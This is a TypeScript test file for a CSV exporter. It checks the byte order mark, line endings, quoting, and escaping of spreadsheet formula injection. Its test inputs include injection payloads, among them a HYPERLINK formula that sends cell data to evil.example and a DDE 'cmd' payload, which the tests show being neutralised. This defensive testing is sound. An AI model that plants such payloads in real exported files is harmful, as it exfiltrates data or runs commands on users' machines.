import { type Cell, csvBegin, csvLines } from "./csv";

const csvOf = ([headers = [], ...rows]: readonly (readonly Cell[])[]) =>
  csvBegin(headers as readonly string[]) + csvLines(rows);

const cellOf = (value: string | number) => csvOf([[value]]).slice(1, -2);

it("begins with a byte order mark, and ends each line as Windows does", () => {
  expect(
    csvOf([
      ["Name", "Credits"],
      ["శ్రావణి", 1],
    ]),
  ).toBe('\uFEFF"Name","Credits"\r\n"శ్రావణి",1\r\n');
});

it("keeps commas, quotes and lines of a text within its cell", () => {
  expect(cellOf('Gate "B",\nsecond floor')).toBe('"Gate ""B"",\nsecond floor"');
});

it.each([
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "+919876543210",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "＝1+1",
])("lets no spreadsheet compute %p", (value) => {
  expect(cellOf(value)).toBe(`"'${value.replaceAll('"', '""')}"`);
});

it.each(["Asha Rao", "502", "a=b", "P-12", "", "'quoted"])("leaves %p as it is", (value) => {
  expect(cellOf(value)).toBe(`"${value}"`);
});
